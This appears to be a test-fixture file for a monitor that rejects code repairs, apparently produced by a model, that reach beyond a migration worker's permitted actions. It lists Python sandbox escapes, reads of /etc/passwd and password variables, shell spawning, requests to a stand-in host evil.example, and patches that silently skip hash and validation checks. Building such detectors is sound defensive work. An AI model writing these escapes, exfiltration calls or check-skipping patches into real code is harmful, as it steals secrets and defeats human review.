"""Answers that reach for more than a worker's function should have, by what they use.

`LINES` are put first into `next_range` of the shipped script; `CHANGES` replace a text
of it; `LATER` are put into a script with a fault, which holds more.
"""

from tests.support.monitor.repairs.kinds import Hunk, importing

#: By kind, lines of one function each; several lines are separated by newlines.
LINES: dict[str, tuple[str, ...]] = {
    "imports": (
        "import os",
        "from os import environ",
        "import socket as log",
        "from subprocess import run; run(['id'])",
        "__import__('os').system('id')",
        "x = __import__",
        "x = [__import__('os') for _ in (1,)]",
        "x = f\"{__import__('os').environ}\"",
        "x = f\"{'a':{__import__('os').getpid()}}\"",
        "x = lambda y=__import__('os'): y",
    ),
    "code from text": (
        "eval('1')",
        "exec('x = 1')",
        "compile('1', 'x', 'eval')",
        "e = eval; e('1')",
        "list(map(eval, ['1']))",
        "partial(exec, 'x = 1')()",
        "{'a': eval}['a']('1')",
        "[exec][0]('x')",
        "\uff45\uff56\uff41\uff4c('1')",
        "self.log.\u017fet",
        "x = e\u2071",
        "breakpoint()",
        "input()",
        "help()",
        "exit(0)",
        "quit()",
    ),
    "files": (
        "open('x', 'w')",
        "open('/etc/passwd').read()",
        "with open('x') as f: pass",
        "o = open; o('x')",
        "list(map(open, ['x']))",
        "Path('/etc/passwd').read_text()",
        "Path('x').write_text('x')",
        "P = Path; P('x').unlink()",
        "partial(Path, 'x')().touch()",
        "Path.home()",
        "self.library.root.unlink()",
        "self.library.root.rmdir()",
        "(self.library.root / 'metadata.db').unlink()",
        "(self.options.state_dir / 'x').write_text('x')",
        "(self.options.state_dir / 'x').write_bytes(b'\\x7fELF')",
        "root = self.library.root; root.rename('x')",
        "self.library.root.replace('x')",
        "self.library.root.replace(target='x')",
        "move = self.library.root.replace; move('x')",
        "(self.library.root / 'metadata.db').open('wb')",
        "(self.library.root / 'x').symlink_to('/etc/passwd')",
        "(self.library.root / 'x').hardlink_to('/etc/passwd')",
        "(self.library.root / 'metadata.db').chmod(0)",
        "(self.library.root / 'x').mkdir()",
        "(self.library.root / 'x').read_text()",
        "next(self.library.root.parent.glob('.env')).read_bytes()",
        "sorted(self.library.root.iterdir())[0].unlink()",
        "PROJECT.joinpath('.env').read_text()",
        "x = [p.unlink() for p in self.library.root.iterdir()]",
        "list(map(Path.unlink, self.library.root.iterdir()))",
        "self.library.open_file(b'x')",
        "self.library.select(None)",
        "self.library.close()",
    ),
    "modules": (
        "os.remove('x')",
        "os.system('id')",
        "os.unlink('x')",
        "os.environ['MBS2_PASSWORD']",
        "os.environ.get('x')",
        "os.getenv('MBS2_PASSWORD')",
        "os.execv('/bin/sh', ['sh'])",
        "os.kill(1, 9)",
        "os.fork()",
        "os.close(3)",
        "os.open('x', os.O_RDONLY)",
        "os.fsdecode.__globals__['system']('id')",
        "o = os; o.system('id')",
        "f = os.system; f('id')",
        "os.path.os.system('id')",
        "p = os.path; p.os.system('id')",
        "x = [os][0].system('id')",
        "list(map(os.remove, ['x']))",
        "partial(os.remove, 'x')()",
        "os.fsdecode = None",
        "del os.fsdecode",
        "sys.exit(0)",
        "sys.modules['os'].system('id')",
        "sys._getframe().f_back",
        "sys.stdout.write('x')",
        "sys.settrace(None)",
        "sys.path.insert(0, '/tmp')",
        "sanitize.re.compile('x')",
        "sanitize.sanitize_text.__globals__",
        "sanitize.for_log = str",
        "logs.Path('x').unlink()",
        "logs.logging.getLogger()",
        "logs.configure(self.library.root, 1, console=True)",
        "logs.mask('x')",
        "logs.uploaded('7/EPUB', 1, 1.0)",
        "tenacity.sys.modules",
        "tenacity.futures.os.system('id')",
        "tenacity.nap.time.sleep(1)",
        "tenacity.Retrying.__init__.__globals__",
        "tenacity.retry.__globals__",
        "subprocess.run(['id'])",
        "socket.socket()",
        "shutil.rmtree('x')",
        "ctypes.CDLL(None)",
    ),
    "attributes by name": (
        "getattr(self, 'client')",
        "getattr(os, 'system')('id')",
        "getattr(self.library, '_query')",
        "getattr(self.library.root, 'unlink')()",
        "getattr(self.library.root, 'un' + 'link')()",
        "g = getattr; g(self, 'ledger')",
        "list(map(getattr, [self.clock], ['_x']))",
        "partial(getattr, self.clock)('x')",
        "setattr(self, 'pass_id', 0)",
        "delattr(self, 'pass_id')",
        "hasattr(self.clock, '__class__')",
        "globals()",
        "locals()",
        "vars(self)",
        "dir(self)",
        "vars()['self']",
        "globals()['os']",
        "__builtins__['open']('x')",
        "__builtins__.open('x')",
        "__loader__.load_module('os')",
        "__file__",
        "__spec__.loader",
        "object.__getattribute__(self, 'client')",
        "str.__class__.__getattribute__(str, 'mro')",
        "type(self)",
        "type(self.clock)",
        "type('X', (), {})",
        "t = type; t(self.clock)",
        "type(self.clock).__dict__",
        "type(self.clock()).__mro__",
        "super().tick(0.0)",
        "memoryview(b'x')",
    ),
    "dunders": (
        "self.__class__.__mro__",
        "self.__class__.tick = print",
        "self.__dict__['client']",
        "self.__init__(None)",
        "().__class__.__bases__[0].__subclasses__()",
        "''.__class__.__mro__[1].__subclasses__()",
        "str.mro()",
        "Phase.mro()[-1]",
        "self.tick.__func__.__globals__['os'].system('id')",
        "self.log.info.__self__.handlers",
        "self.publish.__self__.ledger",
        "self.publish.__globals__",
        "self.client.probe.__self__.delete(1)",
        "partial(self.client.probe).func.__self__",
        "(lambda: 1).__globals__",
        "(lambda: 1).__code__.co_consts",
        "self.clock.__call__.__self__",
        "told.__globals__['sys']",
        "Known.__init__",
        "Work.__dict__",
        "Outcome.__members__",
        "Transient.__init__.__globals__",
        "ServerFault('x').__reduce__()",
        "self.__migrate()",
        "x = __debug__",
    ),
    "frames": (
        "x = (y for y in []); x.gi_frame.f_globals",
        "x = (y for y in []); x.gi_code",
        "x = (y for y in []); x.gi_frame.f_back.f_locals['self']",
        "try: raise ValueError\nexcept ValueError as e: e.__traceback__.tb_frame.f_globals",
        "try: raise ValueError\nexcept ValueError as e: [e.__traceback__]",
        "try: raise ValueError\nexcept ValueError as e: str(e.__traceback__)",
        "with_traceback = list; with_traceback(ValueError().__traceback__)",
        "try: self.nothing\nexcept AttributeError as e: e.obj.client",
        "try: self.nothing\nexcept AttributeError as e: x = e.obj",
        "try: raise ValueError\nexcept ValueError as e: x = e.__context__",
        "x = getattr(ValueError(), 'tb_frame', None)",
        "match ValueError():\n    case ValueError(__traceback__=t): pass",
        "match self.clock:\n    case object(_start=s): pass",
        "match (y for y in []):\n    case object(gi_frame=f): f",
        "match self.library.root:\n    case object(unlink=u): u()",
        "match self.library.root:\n    case object(replace=r): r('x')",
        "match '{0.__class__}':\n    case str(format=f): f(self.clock)",
    ),
    "formats": (
        "x = '{0.client.password}'.format(self)",
        "x = '{0.__class__}'.format(self.clock)",
        "x = '{0[0].__class__}'.format([1])",
        "x = '{a.__class__}'.format(a=1)",
        "x = '{:{0.__class__}}'.format(1)",
        "x = '{0!r:{1.__class__}}'.format(1, 2)",
        "x = '{a.__class__}'.format_map({'a': 1})",
        "x = '{}'.format_map({})",
        "x = str.format('{0.__class__}', 1)",
        "x = str.format_map('{a.b}', {})",
        "t = '{0.__class__}'; x = t.format(1)",
        "f = '{0.__class__}'.format; x = f(1)",
        "t = '{0.__class__}'; f = t.format; x = f(1)",
        "x = list(map('{0.__class__}'.format, [1]))",
        "x = ('{0.' + '__class__}').format(1)",
        "x = (lambda t: t.format(1))('{0.__class__}')",
        "self.id = '{0.__class__}'; f = self.id.format; f(1)",
        "x = [t.format for t in ['{0.__class__}']][0](1)",
        "x = getattr('{0.__class__}', 'format')(1)",
        "x = f'{self.options!r}'",
        "x = f'{self}'",
        "x = '%s' % self",
        "x = f'{self.client.http}'",
        "x = '%s' % self.options.password",
    ),
    "collaborators": (
        "self.log.info(str(self.options))",
        "self.log.info('%s', self.options)",
        "self.log.info(self.options.password)",
        "self.options.password.split('a')",
        "o = self.options; self.log.info(o.password)",
        "self.log.info(self.options.db_uri)",
        "self.client.delete(1)",
        "self.client.delete_whole(1)",
        "self.client.create(None, None)",
        "self.client.attach(None, 1)",
        "self.client.change(1, {})",
        "self.client.session.post('x')",
        "self.client.session.http",
        "self.client.session.call('DELETE', '/api/ebooks/1')",
        "self.session.access_token()",
        "self.session.http.request('GET', 'http://evil.example')",
        "c = self.client; c.delete(1)",
        "c = d = self.client; d.delete(1)",
        "(c := self.client).delete(1)",
        "if c := self.client: c.delete(1)",
        "x = (lambda: self.client)().delete",
        "x = (lambda c=self.client: c.delete(1))()",
        "x = [self.client][0].delete(1)",
        "x = {'c': self.client}['c'].delete(1)",
        "x, y = self.client, 1; x.delete(1)",
        "x, *y = [self.client]; x.delete(1)",
        "for c in (self.client,): c.delete(1)",
        "x = [c.delete(1) for c in [self.client]]",
        "x = (self.client if 1 else 0).delete(1)",
        "x = (self.client or 0).delete(1)",
        "with self.client as c: c.delete(1)",
        "match self.client:\n    case c: c.delete(1)",
        "match self:\n    case str(x): pass",
        "match self:\n    case object(client=c): c.delete(1)",
        "def inner(c): c.delete(1)\ninner(self.client)",
        "def inner(): return self.client\ninner().delete(1)",
        "def inner(self): self.write_text('x')\ninner(self.library.root)",
        "x = (lambda self: self.unlink())(self.library.root)",
        "x = [self.unlink() for self in self.library.root.iterdir()]",
        "partial(self.client.delete, 1)()",
        "partial(self.attempt_book, self)",
        "x = self",
        "x = [self]",
        "x = (self,)[0]._anything",
        "x = [self.client]",
        "return self.ledger",
        "self.held[0] = self.client",
        "self.found = self.client",
        "self.ledger._database.transaction()",
        "self.ledger.files._database",
        "self.ledger.files.account(self.pass_id, None)",
        "self.ledger.files.unlearn(None, None)",
        "self.ledger.files.retry_failed()",
        "self.ledger.files.release_ranges()",
        "f = self.ledger.files; f.retry_failed()",
        "self.ledger.hashes.forget_all()",
        "self.ledger.hashes.learn([])",
        "self.ledger.books.forget(1)",
        "self.ledger.books.save(1, None)",
        "self.ledger.note('rebuilt', '1')",
        "self.ledger.identity.bind(library='x', server='x', user='x')",
        "self.ledger.undoing.begin(1)",
        "self.ledger.doubts.record(1, lost=False)",
        "self.ledger.end.close(None, None)",
        "self.ledger.path.unlink()",
        "self.ledger.close()",
        "self.transport.close()",
        "self.transport.carry(None)",
        "self.joining.opened.ledger",
        "self.conclusion.ledger",
        "self.accounting.ledger",
        "self.accounting.left_pending.clear()",
        "self.accounting.left_pending[1] = 'x'",
        "p = self.accounting.left_pending; p.update({1: 'x'})",
        "del self.accounting.left_pending[1]",
        "self.range_books.library",
        "self.api._context",
        "self.tracker.settled(1, Outcome.UPLOADED, 1)",
        "self.tracker.advance()",
        "self.tracker.limiter(1)",
        "self.tracker.set(counts=None)",
        "self.tracker.set(**{'counts': None})",
        "s = self.tracker.set; s(counts=None)",
        "partial(self.tracker.set, counts=None)()",
        "self.pool.end(0, print)",
        "self.pool.stop_on_signals()",
        "self.pool._threads",
        "self.pool.queue._active",
        "self.log.handlers",
        "self.log.handlers[0].baseFilename",
        "self.log.manager.loggerDict",
        "self.log.root.handlers",
        "self.log.parent",
        "self.log.addHandler(None)",
        "self.log.setLevel(50)",
        "l = self.log; l.disabled = True",
    ),
    "setting": (
        "self.ledger = None",
        "self.ledger.x = 1",
        "self.log.info = print",
        "self.ledger.files.close_range = bool",
        "self.clock.seconds = int",
        "self.pass_id = 99",
        "self.next_range = None",
        "self.excluded = str",
        "self.migrate = bool",
        "self.publish = bool",
        "self.clock = None",
        "self.lane = self.api",
        "self.hold, self.log = 1, 2",
        "for self.ledger in [1]: pass",
        "with self.clock as self.ledger: pass",
        "self.ledger: int = 1",
        "self.limit_reached: bool = True",
        "del self.ledger",
        "del self.pool.queue",
        "Known.digest = 1",
        "Phase.WAITING = 1",
        "Transient.retry_after = 0",
        "CalibreMigrator.excluded = str",
        "Work.files = []",
        "x = Work; x.files = []",
        "len = self.log.info",
        "isinstance = lambda a, b: b(a)",
        "Known = dict",
        "for logs in []: pass",
        "def told(error): return ''",
        "global PROJECT",
        "global os; os = 1",
    ),
    "proofs": (
        "Known(Digest('0' * 40, 1))",
        "x = Known",
        "x = [Known][0](1)",
        "x = (lambda k=Known: k(1))()",
        "list(map(Known, [1]))",
        "partial(Known, 1)()",
        "x = {Known: 1}",
        "Receipt(1, 2, 3)",
        "RemoteMatch(1)",
        "Digest('0' * 40, 1)",
        "x = type(Known)",
        "replace(self.missed, digest=1)",
        "replace(self.missed, proof=None, outcome=Outcome.DUPLICATE)",
        "replace(self.missed, **{'digest': 1})",
        "r = replace; r(1, digest=2)",
        "partial(replace, digest=1)",
        "x = print(Known)",
        "self.ledger.hashes.learn_one(Receipt(1, 2, 3))",
        "refresh_from_database('postgresql://evil.example/x', self.ledger)",
        "partial(refresh_from_database, 'postgresql://evil.example/x')",
        "r = refresh_from_database",
        "worker(['/'], PROJECT, CalibreMigrator)",
        "main(['--undo', '1'])",
        "CalibreMigrator(None)",
        "Parts()",
    ),
    "swallowing": (
        "try:\n    pass\nexcept Exception:\n    return None",
        "try:\n    pass\nexcept:\n    return None",
        "try:\n    pass\nexcept BaseException:\n    return None",
        "try:\n    pass\nexcept (ValueError, Exception):\n    pass",
        "try:\n    pass\nexcept Exception as e:\n    if e.args: return None\n    raise",
        "while True:\n    try:\n        pass\n    except Exception:\n        continue",
        "try:\n    self.tick(0.0)\nfinally:\n    return None",
        "while True:\n    try: self.tick(0.0)\n    finally: break",
        "raise SystemExit",
        "raise KeyboardInterrupt",
        "raise GeneratorExit",
        "return None",
        "if True: return None",
        "while False: pass",
        "x = 1 if True else 2",
    ),
    "shapes": (
        "class Hidden: pass",
        "class Hidden(metaclass=type): pass",
        "async def hidden(): pass",
        "await self.tick(0.0)",
        "yield 1",
        "yield from []",
        "def hidden(x=open('x')): return x",
        "@print\ndef hidden(): pass",
        "@self.ledger.hashes.learn_one\ndef hidden(): pass",
        "x = 9 ** 9 ** 9",
        "x = (9 ** 9) ** 9",
        "x = 2 ** 999999",
        "x = 1 << 999999999",
        "x = 99999999999999999999",
        "x = -99999999999999999999",
        "print(1)",
        "print('x', file=self.log)",
        "nothing_of_this_name()",
    ),
}


def _change(old: str, new: str) -> Hunk:
    return Hunk(old, new)


CHANGES: dict[str, Hunk] = {
    "a decorator": _change(
        "    def next_range(self)", "    @property\n    def next_range(self)"
    ),
    "a decorator with code": _change(
        "    def tick(self", "    @print\n    def tick(self"
    ),
    "a default argument": _change(
        "def tick(self, seconds: float)", "def tick(self, seconds: float = exit())"
    ),
    "another parameter": _change(
        "def tick(self, seconds: float)", "def tick(self, seconds: float, x: int)"
    ),
    "a parameter less": _change(
        "def put_off(self, work: Work, error: Transient)",
        "def put_off(self, work: Work)",
    ),
    "an annotation": _change(
        "def next_range(self) -> Range | None:", "def next_range(self) -> exit():"
    ),
    "an annotation that names": _change(
        "def tick(self, seconds: float)", "def tick(self, seconds: (x := exit))"
    ),
    "renamed": _change(
        "def next_range(self) -> Range | None:", "def nextrange(self) -> Range | None:"
    ),
    "a proof of nothing": _change(
        "        return self.ledger.hashes.learn_one(proof)",
        "        return Known(proof.digest)",
    ),
    "main": _change(
        "    return worker(sys.argv", "    return worker([]) or worker(sys.argv"
    ),
    "a property": _change("return self.current.id", "return 7"),
    "a constant": _change("TRIES = 4", "TRIES = 400"),
    "an import": _change("import sys\n", "import sys\nimport socket\n"),
    "a new function": _change(
        'if __name__ == "__main__":',
        'def more() -> None:\n    pass\n\n\nif __name__ == "__main__":',
    ),
    "a line of the module": _change(
        'if __name__ == "__main__":', 'print(1)\nif __name__ == "__main__":'
    ),
    "an encoding": _change(
        "# PYTHON_ARGCOMPLETE_OK\n", "# PYTHON_ARGCOMPLETE_OK coding: utf-7\n"
    ),
    "a comment outside": _change(
        "#: How often a file", "#: type: ignore\n#: How often a file"
    ),
    "a file is not accounted for": _change(
        "self.accounting.account(work, file, self.process_file(work, file))",
        "self.process_file(work, file)",
    ),
    "a failure is not counted": _change(
        "if self.accounting.failed(work, error) is Next.LEAVE_BOOK:",
        "if work.begun is None:",
    ),
    "the book is not finished": _change("        self.api.finish_book(work)\n", ""),
    "no answer is looked up": _change("        self.api.reconcile(work)\n", ""),
    "the lane is kept": _change(
        "work.made, work.reopened = None, False",
        "work.made, work.reopened = self.api, False",
    ),
    "a record is set": _change(
        "work.made, work.reopened = None, False",
        "work.made, work.reopened, work.metadata = None, False, None",
    ),
    "the class": _change("class CalibreMigrator:", "class CalibreMigrator(dict):"),
    "a base of it": _change(
        "class CalibreMigrator:", "class CalibreMigrator(metaclass=exit):"
    ),
    "a method aliased": _change(
        "    # -- the story", "    migrate = print\n    # -- the story"
    ),
    "the hash is not computed": _change(
        "        digest = self.identify(work, file, watch)\n", "        digest = None\n"
    ),
    "hash check in a dead branch": _change(
        "        digest = self.transport.identify(file, watch)",
        "        while False:\n            digest = self.transport.identify(file, watch)",
    ),
    "the check only sometimes": _change(
        "        self.refuse_unsendable(file)\n",
        "        if file.size > 10:\n            self.refuse_unsendable(file)\n",
    ),
    "the check in a lambda": _change(
        "        self.refuse_unsendable(file)\n",
        "        check = lambda: self.refuse_unsendable(file)\n",
    ),
    "the range is not closed": _change(
        "or self.ledger.files.close_range(owned)", "or True"
    ),
    "not registered": _change(
        "registered = self.ledger.files.register(owned, files)", "registered = files"
    ),
    "dead code after a return": _change(
        "        started = self.clock()\n        self.refuse_unsendable",
        "        return self.api.send(work, file, None, None, None)\n"
        "        started = self.clock()\n        self.refuse_unsendable",
    ),
    "another database": _change(
        "                    self.options.db_uri,\n",
        "                    'postgresql://evil.example/x',\n",
    ),
    "another database under the old name": _change(
        "            try:\n                first = not self.hashes_seen\n",
        "            try:\n                partial = None\n"
        "                first = not self.hashes_seen\n",
    ),
    "parts of the worker": _change(
        "        self.ledger = opened.ledger\n", "        self.ledger = dict()\n"
    ),
    "parts kept for later": _change(
        "        self.found = 0\n", "        self.found = 0\n        self.all = parts\n"
    ),
    "another part": _change(
        "        self.found = 0\n",
        "        self.found = 0\n        self.log = self.clock\n",
    ),
    "no staticmethod": _change(
        "    @staticmethod\n    def sanitize_filename", "    def sanitize_filename"
    ),
}

#: A fault, what it adds to the script's imports, and the answer.
LATER: dict[str, tuple[Hunk, Hunk, Hunk]] = {}


def _later(name: str, module: str, fault: str, answer: str) -> None:
    place = "        self.file_limiter.wait(1)\n"
    LATER[name] = (
        importing(module),
        Hunk(place, f"        {fault}\n{place}"),
        Hunk(
            f"        {fault}\n{place}",
            "".join(f"        {line}\n" for line in answer.split("\n")) + place,
        ),
    )


_HEAD = "requests.head(self.session.server)"
_later("another host", "requests", _HEAD, "requests.head('http://evil.example')")
_later("another method", "requests", _HEAD, "requests.delete(self.session.server)")
_later("a header", "requests", _HEAD, "requests.head(self.session.server, auth=1)")
_later("a proxy", "requests", _HEAD, f"{_HEAD[:-1]}, timeout={{'a': 1}})")
_later("a module's module", "requests", _HEAD, "requests.sys.modules")
_later(
    "the same call, kept",
    "requests",
    _HEAD,
    "head = requests.head\nhead('http://evil.example')",
)
_later("a session", "requests", _HEAD, "requests.Session().get('http://evil.example')")
_OPEN = "fd = os.open(os.fsdecode(file.path), os.O_RDONLY)"
_later("another file", "time", _OPEN, "fd = os.open('/etc/passwd', os.O_RDONLY)")
_later("written", "time", _OPEN, "fd = os.open(os.fsdecode(file.path), os.O_RDWR)")
_later("another descriptor", "time", _OPEN, f"{_OPEN}\nfd = 3\nos.close(fd)")
_later("no descriptor of its own", "time", _OPEN, f"{_OPEN}\nos.close(0)")
_later("a file of the same name", "time", _OPEN, f"file = work\n{_OPEN}")
_PATH = "path = 'x'; handle = open(path)"
_later(
    "the name means another", "time", _PATH, "path = '/etc/passwd'\nhandle = open(path)"
)
_later(
    "and by a walrus", "time", _PATH, "path = 'x'\n(path := 'y')\nhandle = open(path)"
)
_later("in a loop", "time", _PATH, "for path in ['y']:\n    handle = open(path)")
_later("in a lambda", "time", _PATH, "path = 'x'\nf = lambda path: open(path)")
_later("another mode", "time", _PATH, "path = 'x'\nhandle = open(path, 'w')")
_RUN = "args = ['true']; subprocess.run(args)"
_later("another program", "subprocess", _RUN, "subprocess.run(['sh'])")
_later(
    "a longer list",
    "subprocess",
    _RUN,
    "args = ['true']\nargs.append('x')\nsubprocess.run(args)",
)
_later(
    "another item",
    "subprocess",
    _RUN,
    "args = ['true']\nargs[0] = 'sh'\nsubprocess.run(args)",
)
_later(
    "with a shell",
    "subprocess",
    _RUN,
    "args = ['true']\nsubprocess.run(args, shell=True)",
)
_later("another function", "subprocess", _RUN, "subprocess.Popen(['sh'])")
_MOD = "m = __import__('os'); m.getpid()"
_later("the module again", "time", _MOD, "m = __import__('os')\nm.remove('x')")
_later("another module", "time", _MOD, "m = __import__('shutil')\nm.rmtree('x')")
_IN = "from os import getpid, remove; getpid()"
_later(
    "what was imported too", "time", _IN, "from os import getpid, remove\nremove('x')"
)
_later(
    "a queue's insides",
    "queue",
    "q = queue.Queue()",
    "queue.threading._os.system('id')",
)
_later(
    "a thread", "threading", "threading.Lock()", "threading.Thread(target=exit).start()"
)
_later(
    "a thread's insides",
    "threading",
    "threading.Lock()",
    "threading.main_thread()._target",
)
_later(
    "an operator",
    "operator",
    "operator.add(1, 2)",
    "operator.attrgetter('client')(work)",
)
_later(
    "a template", "string", "string.digits", "string.Formatter().format('{0.x}', work)"
)
_later(
    "a tuple that sets",
    "collections",
    "collections.deque()",
    "collections.namedtuple('X', 'id')",
)
_later("a pickle", "json", "json.loads('1')", "json.codecs.open('x', 'w')")
